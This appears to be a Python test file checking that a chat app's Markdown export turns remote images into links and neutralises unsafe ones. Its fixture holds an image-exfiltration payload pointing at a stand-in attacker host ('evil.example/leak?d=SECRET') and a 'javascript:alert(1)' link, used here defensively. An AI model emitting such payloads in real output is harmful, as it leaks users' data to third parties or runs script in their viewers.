"""The Markdown export embeds no remote image: a viewer opening the file would fetch it and tell its server."""

from __future__ import annotations

from alonchat import conversations as convs
from alonchat.core.markdown import clean

PNG = "data:image/png;base64,iVBORw0KGgo="
PROMPT = ("Look ![chart](https://evil.example/leak?d=SECRET) and [docs](https://example.com/docs), "
          "[run](javascript:alert(1)), inline ![dot](" + PNG + "), and `![code](https://x.example/c.png)`.")


def test_remote_images_become_links_and_everything_else_stays_as_written():
    cid = convs.create("Images", "tester")
    convs.add_prompt(cid, ["echo"], PROMPT)
    md = convs.export_markdown(cid)
    assert "![chart](https://evil.example" not in md
    assert "[image: chart](<https://evil.example/leak?d=SECRET>)" in md  # a link: fetched only if the reader opens it
    assert "[docs](https://example.com/docs)" in md  # a safe link stays a link
    assert "`[run](javascript:alert(1))` *(not a safe link: not opened)*" in md  # as code: its text, no link
    assert f"![dot]({PNG})" in md  # an inline data image asks no server for anything
    assert "`![code](https://x.example/c.png)`" in md  # code is left as written
    assert convs.export_json(cid).count("![chart](https://evil.example/leak?d=SECRET)") == 1  # the record keeps it


def test_an_image_whose_address_is_not_a_safe_link_is_written_as_code():
    assert clean("![x](javascript:alert(1))").text == "image: x `javascript:alert(1)` *(not a safe link: not opened)*"
